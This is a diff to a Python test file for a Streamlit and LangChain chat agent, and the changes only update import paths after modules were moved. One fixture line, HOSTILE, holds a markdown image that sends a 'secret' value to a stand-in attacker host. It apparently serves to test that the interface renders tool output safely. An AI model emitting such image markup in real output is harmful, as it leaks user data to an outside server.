@@ -11,7 +11,7 @@ from langchain_community.callbacks.streamlit.streamlit_callback_handler import (
 )
 from streamlit.testing.v1 import AppTest
 
-from streamlit_agent.ui.chat import LiveSteps
+from streamlit_agent.web.ui.chat import LiveSteps
 from tests.scripted_openai import Reply, ScriptedOpenAI, ToolCall
 
 HOSTILE = "![x](http://attacker.invalid/?d=secret) <b>bold</b> **not bold** $x$"
@@ -31,12 +31,12 @@ def _live_turn(base_url: str, fails_with: str = "") -> None:
     from langchain_core.messages import HumanMessage
     from langchain_core.tools import tool
 
-    from streamlit_agent.agent import build_agent, run_turn
+    from streamlit_agent.agent.build import build_agent, run_turn
     from streamlit_agent.config import Settings
-    from streamlit_agent.providers import ModelChoice, build_chat_model
-    from streamlit_agent.steps import StepRecorder, group_turns
+    from streamlit_agent.conversation.steps import StepRecorder, group_turns
+    from streamlit_agent.models.providers import ModelChoice, build_chat_model
     from streamlit_agent.tools.calculator import calculator
-    from streamlit_agent.ui.chat import LiveSteps, step_title
+    from streamlit_agent.web.ui.chat import LiveSteps, step_title
 
     @tool
     def fetch_page(url: str) -> str:
@@ -123,8 +123,8 @@ def _steps_fed_by_hand() -> None:
 
     import streamlit as st
 
-    from streamlit_agent.steps import Step
-    from streamlit_agent.ui.chat import LiveSteps
+    from streamlit_agent.conversation.steps import Step
+    from streamlit_agent.web.ui.chat import LiveSteps
 
     live = LiveSteps(st.container())
     first = Step(tool="calculator", input={"expression": "1 + 1"}, call_id="a", status="running")
